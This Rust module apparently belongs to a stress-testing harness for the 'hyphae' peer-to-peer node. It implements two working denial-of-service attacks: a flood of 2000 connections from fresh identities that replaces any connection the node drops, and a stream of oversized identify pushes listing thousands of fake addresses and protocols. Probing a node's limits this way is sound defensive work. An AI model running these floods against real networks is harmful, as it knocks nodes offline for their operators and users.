//! Attacks by volume of peers and of what they claim: complete connections from thousands
//! of fresh identities, and identify pushes listing thousands of protocols and addresses.

use std::net::Ipv4Addr;
use std::sync::Arc;

use hyphae::{Multiaddr, Protocol};
use hyphae_core::varint;
use tokio::sync::Semaphore;

use super::wire::{self, Counters, Writer};
use super::{Target, workers};

/// Connections the identity flood holds at once: twice hyphae's default connection limit
/// (1024), the case issue 15 describes.
const FLOOD_CONNECTIONS: u64 = 2000;
/// Handshakes the flood runs at once (the attacker's own CPU is the limit beyond this).
const FLOOD_HANDSHAKES: usize = 32;

/// [`FLOOD_CONNECTIONS`] complete connections (Noise + Yamux), each from a fresh Ed25519
/// identity, held idle: what the node sends is read and dropped, nothing is ever asked. A
/// connection the node closes is replaced at once, as a determined attacker would.
pub async fn identity_flood(target: Target, counters: Arc<Counters>) {
    let handshakes = Arc::new(Semaphore::new(FLOOD_HANDSHAKES));
    workers(
        FLOOD_CONNECTIONS,
        target,
        counters,
        move |index, target, counters| {
            let handshakes = Arc::clone(&handshakes);
            async move {
                let permit = handshakes.acquire_owned().await?;
                let io = wire::secure(&target, index, &counters).await?;
                drop(permit);
                Counters::add(&counters.units, 1);
                wire::while_draining(io, |_writer| std::future::pending()).await
            }
        },
    )
    .await
}

/// The identify push protocol.
const PUSH: &str = "/ipfs/id/push/1.0.0";
/// Protocols and addresses listed in one bloated push (the node keeps a few hundred at
/// most; identify messages are limited to a few KiB).
const LISTED: u32 = 4000;

/// Sixteen connections, each opening identify push streams one after another, every push
/// a ~110 KB message listing [`LISTED`] protocols and as many addresses (under the
/// stream's 256 KiB window, so only the node's own message limit stops it).
pub async fn identify_bloat(target: Target, counters: Arc<Counters>) {
    let message = Arc::new(bloated_identify());
    workers(16, target, counters, move |index, target, counters| {
        let message = Arc::clone(&message);
        async move {
            let io = wire::secure(&target, index, &counters).await?;
            wire::while_draining(io, |writer| pushes(writer, message, counters)).await
        }
    })
    .await
}

async fn pushes(
    mut writer: Writer,
    message: Arc<Vec<u8>>,
    counters: Arc<Counters>,
) -> anyhow::Result<()> {
    for id in (1..).step_by(2) {
        wire::send(
            &mut writer,
            &wire::open_stream_frame(id, PUSH, &message)?,
            &counters,
        )
        .await?;
        Counters::add(&counters.units, 1);
    }
    Ok(())
}

/// A length-prefixed identify message (protobuf, written field by field) listing [`LISTED`]
/// addresses (field 2) and [`LISTED`] protocols (field 3).
fn bloated_identify() -> Vec<u8> {
    let mut body = Vec::new();
    for n in 0..LISTED {
        let addr = Multiaddr::empty()
            .with(Protocol::Ip4(Ipv4Addr::from(0x0a00_0000 + n)))
            .with(Protocol::Tcp(4001));
        field(&mut body, 2, addr.as_bytes());
        field(&mut body, 3, format!("/bloat/{n}/1.0.0").as_bytes());
    }
    let mut message = Vec::with_capacity(body.len() + 4);
    varint::encode_to_vec(body.len() as u64, &mut message);
    message.extend_from_slice(&body);
    message
}

/// Appends a length-delimited protobuf field.
fn field(out: &mut Vec<u8>, number: u64, bytes: &[u8]) {
    varint::encode_to_vec(number << 3 | 2, out);
    varint::encode_to_vec(bytes.len() as u64, out);
    out.extend_from_slice(bytes);
}
